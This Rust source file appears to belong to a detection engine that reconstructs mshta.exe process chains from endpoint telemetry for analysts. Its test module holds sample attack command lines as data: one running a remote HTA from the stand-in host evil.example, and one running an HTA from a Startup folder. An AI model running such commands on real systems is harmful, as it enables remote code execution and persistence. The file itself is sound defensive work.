//! Chain discovery over the store: which processes are mshta roots (seen or
//! inferred), their descendants, the activity attributed to them, and the
//! links by path. Computed on demand from the store's indexes, so a chain
//! is a function of the retained events, not of the order they came in.

use crate::event::{Activity, Actor};
use crate::names::{basename, host_key, EntityId};
use crate::store::{HostId, ProcId, Store};
use crate::time::Millis;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet, VecDeque};

/// Ancestor walks stop after this many steps (bad data can hold cycles;
/// real trees are shallow).
const MAX_ANCESTOR_STEPS: usize = 64;

/// How many ancestors a chain reports as its lineage.
pub(crate) const LINEAGE_DEPTH: usize = 8;

/// A root whose start event was never seen, inferred from its children's
/// parent fields or from activity that names it.
#[derive(Debug, Clone)]
pub(crate) struct Inferred {
    pub host: HostId,
    pub pid: Option<u32>,
    pub guid: Option<EntityId>,
    pub image: Box<str>,
    pub command_line: Option<Box<str>>,
    /// First time anything of it was seen (UTC).
    pub seen: Millis,
    pub children: Vec<ProcId>,
    pub acts: Vec<u64>,
}

#[derive(Debug, Clone)]
pub(crate) enum Root {
    Seen(ProcId),
    Inferred(Inferred),
}

/// How a member joined the chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Via {
    /// A descendant of the root.
    Descendant,
    /// Runs a file a member wrote.
    ExecutedFile,
}

#[derive(Debug, Clone)]
pub(crate) struct Member {
    pub proc: ProcId,
    pub depth: u32,
    pub via: Via,
}

/// A file written (by any process) before the root started, that the
/// root's command line names.
#[derive(Debug, Clone)]
pub(crate) struct FileLink {
    pub index: u64,
    /// The log record number of the file event.
    pub record: Option<u64>,
    pub time: Millis,
    pub path: Box<str>,
    pub writer: Actor,
}

#[derive(Debug, Clone)]
pub(crate) struct ChainParts {
    pub id: String,
    pub host: HostId,
    pub root: Root,
    /// UTC start (or first sighting) of the root.
    pub seen: Millis,
    pub members: Vec<Member>,
    /// Activity of the root and members, by input index.
    pub acts: Vec<u64>,
    pub dropped_file: Option<FileLink>,
    /// Ancestors of the root, nearest first.
    pub lineage: Vec<ProcId>,
}

impl ChainParts {
    /// Processes this chain holds in the store.
    pub(crate) fn procs(&self) -> Vec<ProcId> {
        let mut v: Vec<ProcId> = self.members.iter().map(|m| m.proc).collect();
        if let Root::Seen(r) = &self.root {
            v.push(*r);
        }
        v
    }
}

/// Finds every chain in the store, skipping ids that are `closed`.
/// With `hosts`, only chains on those hosts (chains never span hosts).
pub(crate) fn discover(
    store: &Store,
    window: Millis,
    closed: impl Fn(&str) -> bool,
    hosts: Option<&BTreeSet<HostId>>,
) -> Vec<ChainParts> {
    let wanted = |h: HostId| hosts.is_none_or(|set| set.contains(&h));
    let mut roots: Vec<(Root, Millis, String, HostId)> = Vec::new();
    for id in store.mshta_processes() {
        if !wanted(store.proc(id).host) || has_mshta_ancestor(store, id) {
            continue;
        }
        let p = store.proc(id);
        let seen = store.start_utc(p);
        let ident = match &p.guid {
            Some(g) => g.as_str().to_string(),
            None => format!("{}@{}", p.pid.unwrap_or(0), seen),
        };
        roots.push((Root::Seen(id), seen, chain_id(store.host_key(p.host), &ident), p.host));
    }
    // One unseen mshta can be named by pid (its children) and by GUID
    // alone (its activity): two groups, one chain id. They are one root:
    // merged, or the chain would be listed twice (and its version bumped
    // by each, once per look at its host).
    let mut inferred_at: BTreeMap<String, usize> = BTreeMap::new();
    for inf in inferred_roots(store).into_iter().filter(|inf| wanted(inf.host)) {
        let ident = match &inf.guid {
            Some(g) => g.as_str().to_string(),
            None => format!("{}@{}", inf.pid.unwrap_or(0), inf.seen),
        };
        let (seen, host) = (inf.seen, inf.host);
        let id = chain_id(store.host_key(host), &ident);
        if let Some(&at) = inferred_at.get(&id) {
            let entry = &mut roots[at];
            let first_seen = entry.1.min(seen);
            entry.1 = first_seen;
            if let Root::Inferred(first) = &mut entry.0 {
                first.children.extend(inf.children);
                first.acts.extend(inf.acts);
                first.seen = first_seen;
                first.pid = first.pid.or(inf.pid);
                first.command_line = first.command_line.take().or(inf.command_line);
            }
            continue;
        }
        inferred_at.insert(id.clone(), roots.len());
        roots.push((Root::Inferred(inf), seen, id, host));
    }
    roots.sort_by(|a, b| (a.1, &a.2).cmp(&(b.1, &b.2)));

    let mut owned: BTreeSet<ProcId> = BTreeSet::new();
    let mut out = Vec::new();
    for (root, seen, id, host) in roots {
        if closed(&id) {
            continue;
        }
        let mut chain = ChainParts {
            id,
            host,
            root,
            seen,
            members: Vec::new(),
            acts: Vec::new(),
            dropped_file: None,
            lineage: Vec::new(),
        };
        build(store, &mut chain, window, &mut owned);
        // An inferred root left with nothing of its own (every child it was
        // inferred from belongs to an earlier chain, e.g. a seen mshta whose
        // mshta parent is unseen) is no chain: closing it would forget
        // nothing, so it would be found again once evicted from the closed
        // chains (and a restore, which looks at every host, would re-close it).
        if matches!(chain.root, Root::Inferred(_)) && chain.members.is_empty() && chain.acts.is_empty() {
            continue;
        }
        out.push(chain);
    }
    out
}

fn build(store: &Store, chain: &mut ChainParts, window: Millis, owned: &mut BTreeSet<ProcId>) {
    let mut queue: VecDeque<(ProcId, u32)> = VecDeque::new();
    match &chain.root {
        Root::Seen(r) => {
            owned.insert(*r);
            queue.push_back((*r, 0));
            chain.lineage = lineage(store, *r);
        }
        Root::Inferred(inf) => {
            for &c in &inf.children {
                if owned.insert(c) {
                    chain.members.push(Member { proc: c, depth: 1, via: Via::Descendant });
                    queue.push_back((c, 1));
                }
            }
            chain.acts.extend(inf.acts.iter().copied());
        }
    }
    descend(store, chain, &mut queue, owned, Via::Descendant);

    // Activity of the root and every member.
    let mut holders: Vec<ProcId> = chain.members.iter().map(|m| m.proc).collect();
    if let Root::Seen(r) = &chain.root {
        holders.push(*r);
    }
    let mut acts: BTreeSet<u64> = chain.acts.iter().copied().collect();
    collect_acts(store, &holders, &mut acts);

    // A file a member wrote, later run as a process: that process (and its
    // descendants) joins the chain.
    let written: Vec<(Box<str>, Millis, u32)> = acts
        .iter()
        .filter_map(|&i| store.activity(i))
        .filter_map(|a| match &a.what {
            Activity::FileCreate { path } => {
                let depth = store
                    .actor_of(a)
                    .and_then(|p| chain.members.iter().find(|m| m.proc == p).map(|m| m.depth))
                    .unwrap_or(0);
                Some((path.to_ascii_lowercase().into_boxed_str(), store.utc(a.host, a.clock, a.time), depth))
            }
            _ => None,
        })
        .collect();
    if !written.is_empty() {
        let mut queue = VecDeque::new();
        for pid in store.host_processes(chain.host) {
            if owned.contains(&pid) {
                continue;
            }
            let p = store.proc(pid);
            let start = store.start_utc(p);
            if let Some((_, _, depth)) =
                written.iter().find(|(path, t, _)| start >= *t && p.image.eq_ignore_ascii_case(path))
            {
                owned.insert(pid);
                chain.members.push(Member { proc: pid, depth: depth + 1, via: Via::ExecutedFile });
                queue.push_back((pid, depth + 1));
            }
        }
        let before = chain.members.len();
        descend(store, chain, &mut queue, owned, Via::ExecutedFile);
        let new: Vec<ProcId> = chain.members[before..].iter().map(|m| m.proc).collect();
        let linked: Vec<ProcId> = chain.members.iter().filter(|m| m.via == Via::ExecutedFile).map(|m| m.proc).collect();
        collect_acts(store, &linked, &mut acts);
        collect_acts(store, &new, &mut acts);
    }
    chain.acts = acts.into_iter().collect();

    // A file written before the root started that its command line names.
    let cmd = match &chain.root {
        Root::Seen(r) => store.proc(*r).command_line.clone(),
        Root::Inferred(inf) => inf.command_line.clone(),
    };
    if let Some(cmd) = cmd {
        chain.dropped_file = dropped_file(store, chain.host, &cmd, chain.seen, window);
    }
    // Ties broken by content, not input index (arrival order).
    chain.members.sort_by_cached_key(|m| {
        let p = store.proc(m.proc);
        (store.start_utc(p), m.depth, p.pid, p.image.clone(), p.guid.clone())
    });
}

fn descend(
    store: &Store,
    chain: &mut ChainParts,
    queue: &mut VecDeque<(ProcId, u32)>,
    owned: &mut BTreeSet<ProcId>,
    via: Via,
) {
    while let Some((p, depth)) = queue.pop_front() {
        for c in store.children_of(p) {
            if owned.insert(c) {
                chain.members.push(Member { proc: c, depth: depth + 1, via });
                queue.push_back((c, depth + 1));
            }
        }
    }
}

fn collect_acts(store: &Store, holders: &[ProcId], acts: &mut BTreeSet<u64>) {
    for &h in holders {
        let p = store.proc(h);
        for i in store.activity_candidates(p.host, p.guid.iter().chain(p.aliases.iter()), p.pid) {
            if let Some(a) = store.activity(i) {
                if store.actor_of(a) == Some(h) {
                    acts.insert(i);
                }
            }
        }
    }
}

/// What per-chain caps must never drop because several chains use it: the
/// seen roots and their lineages (an mshta can be the root of its own chain
/// and a member of an inferred root's; an ancestor of one root can be a
/// member of another chain).
pub(crate) fn shared(chains: &[ChainParts]) -> BTreeSet<ProcId> {
    let mut out = BTreeSet::new();
    for c in chains {
        if let Root::Seen(r) = c.root {
            out.insert(r);
        }
        out.extend(c.lineage.iter().copied());
    }
    out
}

/// Per-chain caps: how many members and how many activity items of each
/// kind (files, connections, DNS queries, module loads) one chain holds.
#[derive(Debug, Clone, Copy)]
pub(crate) struct ChainCaps {
    pub children: usize,
    pub activity: usize,
}

/// What per-chain caps left out of a chain, by list: counted so that the
/// report gives exact totals (`children_total`, ..., `truncated`).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Dropped {
    pub children: u64,
    pub files: u64,
    pub network: u64,
    pub dns: u64,
    pub modules: u64,
}

impl Dropped {
    pub(crate) fn add(&mut self, o: &Dropped) {
        self.children += o.children;
        self.files += o.files;
        self.network += o.network;
        self.dns += o.dns;
        self.modules += o.modules;
    }

    pub(crate) fn any(&self) -> bool {
        *self != Dropped::default()
    }

    fn count(&mut self, what: &Activity) {
        match what {
            Activity::FileCreate { .. } => self.files += 1,
            Activity::Network(_) => self.network += 1,
            Activity::Dns { .. } => self.dns += 1,
            Activity::ImageLoad { .. } => self.modules += 1,
        }
    }
}

/// The processes and activity trimming took out of a chain (to drop from
/// the store), and their counts.
#[derive(Debug, Default)]
pub(crate) struct Trim {
    pub procs: Vec<ProcId>,
    pub acts: Vec<u64>,
    pub dropped: Dropped,
}

/// Trims a chain to its caps, keeping the most informative items: members
/// that ran a file another member wrote, the first member of each distinct
/// image, then the first seen; every ancestor of a kept member (so the tree
/// stays connected); per activity kind, the first item of each distinct
/// target (path, remote address, query), then the first seen. A dropped
/// member's activity goes with it. Without a cap exceeded, nothing changes.
/// This bounds what one chain costs in memory and per update whatever an
/// attacker makes it spawn or do.
/// `protected` are never left out: the roots of all chains (an mshta can be
/// the root of its own chain and a member of an inferred root's).
pub(crate) fn trim(store: &Store, parts: &mut ChainParts, caps: ChainCaps, protected: &BTreeSet<ProcId>) -> Trim {
    let mut out = Trim::default();
    if parts.members.len() > caps.children {
        let n = parts.members.len();
        let at: BTreeMap<ProcId, usize> = parts.members.iter().enumerate().map(|(i, m)| (m.proc, i)).collect();
        // Candidates by priority; each comes with its ancestors among the
        // members (so the kept tree stays connected), and only when all of
        // them fit.
        let mut order: Vec<usize> = Vec::with_capacity(n * 2);
        order.extend((0..n).filter(|&i| parts.members[i].via == Via::ExecutedFile));
        let mut images = BTreeSet::new();
        order.extend(
            (0..n).filter(|&i| images.insert(basename(&store.proc(parts.members[i].proc).image).to_ascii_lowercase())),
        );
        order.extend(0..n);
        let mut keep = vec![false; n];
        let mut kept = 0usize;
        for i in order {
            if kept == caps.children {
                break;
            }
            if keep[i] {
                continue;
            }
            let mut need = vec![i];
            let mut cur = store.parent_of(parts.members[i].proc);
            while let Some(p) = cur {
                match at.get(&p) {
                    Some(&j) if !keep[j] && !need.contains(&j) && need.len() < MAX_ANCESTOR_STEPS => need.push(j),
                    _ => break,
                }
                cur = store.parent_of(p);
            }
            if kept + need.len() <= caps.children {
                kept += need.len();
                for j in need {
                    keep[j] = true;
                }
            }
        }
        let mut i = 0;
        let mut gone = BTreeSet::new();
        parts.members.retain(|m| {
            let k = keep[i];
            i += 1;
            if !k {
                gone.insert(m.proc);
            }
            k
        });
        out.dropped.children = gone.len() as u64;
        // Left out of this chain's list; dropped from the store unless
        // another chain uses it (its root or lineage).
        out.procs = gone.iter().copied().filter(|p| !protected.contains(p)).collect();
        parts.acts.retain(|&a| {
            let Some(rec) = store.activity(a) else { return true };
            if store.actor_of(rec).is_some_and(|p| gone.contains(&p)) {
                out.acts.push(a);
                out.dropped.count(&rec.what);
                false
            } else {
                true
            }
        });
    }
    // Activity, per kind. A file the root ran (`dropped_file`) is listed
    // with the files and counts against their cap.
    let mut cap = [caps.activity; 4];
    if parts.dropped_file.is_some() {
        let files = kind(&Activity::FileCreate { path: "".into() });
        cap[files] = caps.activity.saturating_sub(1);
    }
    let mut per_kind = [0usize; 4];
    for &a in &parts.acts {
        if let Some(rec) = store.activity(a) {
            per_kind[kind(&rec.what)] += 1;
        }
    }
    if per_kind.iter().zip(cap).any(|(&n, c)| n > c) {
        let mut order: Vec<(Millis, u64)> = parts
            .acts
            .iter()
            .filter_map(|&a| store.activity(a).map(|r| (store.utc(r.host, r.clock, r.time), a)))
            .collect();
        order.sort_unstable();
        let mut keep: BTreeSet<u64> = BTreeSet::new();
        let mut kept = [0usize; 4];
        let mut targets: BTreeSet<(usize, String)> = BTreeSet::new();
        for pass in 0..2 {
            for &(_, a) in &order {
                let Some(rec) = store.activity(a) else { continue };
                let k = kind(&rec.what);
                if per_kind[k] <= cap[k] {
                    keep.insert(a);
                    continue;
                }
                if kept[k] >= cap[k] || keep.contains(&a) {
                    continue;
                }
                if pass == 1 || targets.insert((k, target(&rec.what))) {
                    keep.insert(a);
                    kept[k] += 1;
                }
            }
        }
        parts.acts.retain(|&a| {
            if keep.contains(&a) {
                return true;
            }
            if let Some(rec) = store.activity(a) {
                out.dropped.count(&rec.what);
            }
            out.acts.push(a);
            false
        });
    }
    out
}

fn kind(what: &Activity) -> usize {
    match what {
        Activity::FileCreate { .. } => 0,
        Activity::Network(_) => 1,
        Activity::Dns { .. } => 2,
        Activity::ImageLoad { .. } => 3,
    }
}

/// What an activity item is about, for keeping distinct ones.
fn target(what: &Activity) -> String {
    match what {
        Activity::FileCreate { path } | Activity::ImageLoad { path } => path.to_ascii_lowercase(),
        Activity::Network(n) => n.remote_ip().unwrap_or("").to_string(),
        Activity::Dns { query } => query.to_ascii_lowercase(),
    }
}

/// A digest of everything a chain's rendering reads from the store: when
/// it is unchanged, so is the rendering (given the same status and counts
/// of what was left out), and the engine reuses it instead of building,
/// scoring and serialising the chain again. This keeps a push linear in
/// what it brings, not in the size of the chains it touches.
pub(crate) fn fingerprint(store: &Store, parts: &ChainParts, closing: bool, dropped: &Dropped) -> u64 {
    let mut h = Fnv::default();
    h.bytes(parts.id.as_bytes());
    h.num(parts.seen as u64);
    h.num(store.offset(parts.host) as u64);
    h.num(u64::from(closing));
    for n in [dropped.children, dropped.files, dropped.network, dropped.dns, dropped.modules] {
        h.num(n);
    }
    let proc = |h: &mut Fnv, id: ProcId| {
        let p = store.proc(id);
        h.num(id as u64);
        h.num(p.events.len() as u64);
        h.num(p.events.last().copied().unwrap_or(0));
        h.num(p.start as u64);
        h.num(p.end.map_or(u64::MAX, |e| e.0 as u64 ^ e.2));
        h.num(u64::from(p.sources));
    };
    match &parts.root {
        Root::Seen(r) => {
            proc(&mut h, *r);
            match store.parent_of(*r) {
                Some(q) => proc(&mut h, q),
                None => h.num(u64::MAX),
            }
        }
        Root::Inferred(inf) => {
            h.num(u64::from(inf.pid.unwrap_or(u32::MAX)));
            h.bytes(inf.guid.as_ref().map_or("", |g| g.as_str()).as_bytes());
            h.bytes(inf.image.as_bytes());
            h.bytes(inf.command_line.as_deref().unwrap_or("").as_bytes());
        }
    }
    for &a in &parts.lineage {
        proc(&mut h, a);
    }
    h.num(u64::MAX);
    for m in &parts.members {
        proc(&mut h, m.proc);
        h.num(u64::from(m.depth) | (u64::from(m.via == Via::ExecutedFile) << 32));
    }
    h.num(u64::MAX);
    for &a in &parts.acts {
        h.num(a);
        let actor = store.activity(a).and_then(|r| store.actor_of(r));
        h.num(actor.map_or(u64::MAX, |p| p as u64));
    }
    h.num(parts.dropped_file.as_ref().map_or(u64::MAX, |f| f.index));
    h.0
}

/// FNV-1a over a stream of values.
struct Fnv(u64);

impl Default for Fnv {
    fn default() -> Fnv {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
}

impl Fnv {
    fn bytes(&mut self, b: &[u8]) {
        for &x in b {
            self.0 = (self.0 ^ u64::from(x)).wrapping_mul(0x0100_0000_01b3);
        }
        self.num(b.len() as u64);
    }
    fn num(&mut self, n: u64) {
        for x in n.to_le_bytes() {
            self.0 = (self.0 ^ u64::from(x)).wrapping_mul(0x0100_0000_01b3);
        }
    }
}

/// Roots whose start was never seen: grouped by host and pid (or GUID when
/// there is no pid), from children naming an mshta parent we do not have,
/// and from activity whose actor image is mshta but unknown.
fn inferred_roots(store: &Store) -> Vec<Inferred> {
    let mut groups: BTreeMap<(HostId, String), Inferred> = BTreeMap::new();
    let key = |host: HostId, a: &Actor| -> Option<(HostId, String)> {
        match (a.process.pid, &a.process.guid) {
            (Some(pid), _) => Some((host, format!("pid:{pid}"))),
            (None, Some(g)) => Some((host, format!("guid:{}", g.as_str()))),
            (None, None) => None,
        }
    };
    for c in store.mshta_children() {
        if store.parent_of(c).is_some() {
            continue;
        }
        let p = store.proc(c);
        // A process that names itself as its parent (bad or forged data) is
        // not the child of an unseen mshta: that would be a second chain.
        let same_guid = p.parent.process.guid.is_some() && p.parent.process.guid == p.guid;
        let same_pid = p.parent.process.pid.is_some()
            && p.parent.process.pid == p.pid
            && p.parent.process.guid.as_ref().is_none_or(|g| p.may_be(g));
        let names_itself = same_guid || same_pid;
        if names_itself {
            continue;
        }
        let Some(k) = key(p.host, &p.parent) else { continue };
        let start = store.start_utc(p);
        let g = groups.entry(k).or_insert_with(|| Inferred {
            host: p.host,
            pid: p.parent.process.pid,
            guid: p.parent.process.guid.clone(),
            image: p.parent.image.clone().unwrap_or_else(|| "mshta.exe".into()),
            command_line: None,
            seen: start,
            children: Vec::new(),
            acts: Vec::new(),
        });
        g.seen = g.seen.min(start);
        g.guid = g.guid.clone().or_else(|| p.parent.process.guid.clone());
        if g.command_line.is_none() {
            g.command_line = p.parent_command_line.clone();
        }
        g.children.push(c);
    }
    for i in store.mshta_activity() {
        let Some(a) = store.activity(i) else { continue };
        if store.actor_of(a).is_some() {
            continue;
        }
        let Some(k) = key(a.host, &a.actor) else { continue };
        let t = store.utc(a.host, a.clock, a.time);
        let g = groups.entry(k).or_insert_with(|| Inferred {
            host: a.host,
            pid: a.actor.process.pid,
            guid: a.actor.process.guid.clone(),
            image: a.actor.image.clone().unwrap_or_else(|| "mshta.exe".into()),
            command_line: None,
            seen: t,
            children: Vec::new(),
            acts: Vec::new(),
        });
        g.seen = g.seen.min(t);
        g.acts.push(i);
    }
    groups.into_values().collect()
}

/// Whether an ancestor of `id` is an mshta. When bad data makes `id` part
/// of a parent cycle, only an mshta of the cycle that started earlier
/// counts, so the earliest mshta of a cycle is its root.
fn has_mshta_ancestor(store: &Store, id: ProcId) -> bool {
    let me = store.proc(id);
    let my_key = (store.start_utc(me), me.first_event());
    let mut ancestors = Vec::new();
    let mut cur = store.parent_of(id);
    let mut cycle = false;
    while let Some(a) = cur {
        if a == id {
            cycle = true;
            break;
        }
        if ancestors.len() == MAX_ANCESTOR_STEPS || ancestors.contains(&a) {
            break;
        }
        ancestors.push(a);
        cur = store.parent_of(a);
    }
    ancestors.iter().any(|&a| {
        let p = store.proc(a);
        p.is_mshta() && (!cycle || (store.start_utc(p), p.first_event()) < my_key)
    })
}

fn lineage(store: &Store, id: ProcId) -> Vec<ProcId> {
    let mut out = Vec::new();
    let mut cur = store.parent_of(id);
    while let Some(a) = cur {
        if a == id || out.contains(&a) || out.len() == LINEAGE_DEPTH {
            break;
        }
        out.push(a);
        cur = store.parent_of(a);
    }
    out
}

/// Paths a command line names: quoted arguments, and unquoted tokens that
/// look like a file (`name.ext`).
pub(crate) fn referenced_paths(cmd: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = cmd;
    while let Some(q) = rest.find('"') {
        let after = &rest[q + 1..];
        let Some(end) = after.find('"') else { break };
        out.push(&after[..end]);
        rest = &after[end + 1..];
    }
    for tok in cmd.split(|c: char| c.is_whitespace() || c == '"') {
        if tok.len() > 4 && tok.contains('.') && !tok.contains("://") {
            out.push(tok);
        }
    }
    out.retain(|p| !p.is_empty() && basename(p).contains('.'));
    out
}

fn dropped_file(store: &Store, host: HostId, cmd: &str, seen: Millis, window: Millis) -> Option<FileLink> {
    let mut best: Option<FileLink> = None;
    for path in referenced_paths(cmd) {
        let name = basename(path);
        let has_dir = path.contains('\\') || path.contains('/');
        for f in store.files_named(host, name) {
            let t = store.utc(host, f.clock, f.time);
            let same = if has_dir { f.path.eq_ignore_ascii_case(path.trim()) } else { true };
            if same && t <= seen + crate::store::SLACK_MS && seen - t <= window {
                let better = best.as_ref().is_none_or(|b| (t, f.index) > (b.time, b.index));
                if better {
                    best = Some(FileLink {
                        index: f.index,
                        record: f.record,
                        time: t,
                        path: f.path.clone(),
                        writer: f.actor.clone(),
                    });
                }
            }
        }
    }
    best
}

/// Stable chain id: FNV-1a of host and root identity.
fn chain_id(host: &str, ident: &str) -> String {
    let h = crate::hash::fnv1a(format!("{}|{}", host_key(host), ident).as_bytes());
    format!("mc-{h:016x}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_named_by_command_lines() {
        let got = referenced_paths(
            r#""C:\windows\system32\mshta.exe" "C:\Users\a\Start Menu\Programs\Startup\T1218.005.hta""#,
        );
        assert!(got.contains(&r"C:\Users\a\Start Menu\Programs\Startup\T1218.005.hta"));
        let got = referenced_paths(r"mshta.exe C:\Users\Public\x.hta");
        assert!(got.contains(&r"C:\Users\Public\x.hta"));
        assert!(referenced_paths("mshta https://evil.example/a.hta").iter().all(|p| !p.contains("://")));
    }
}
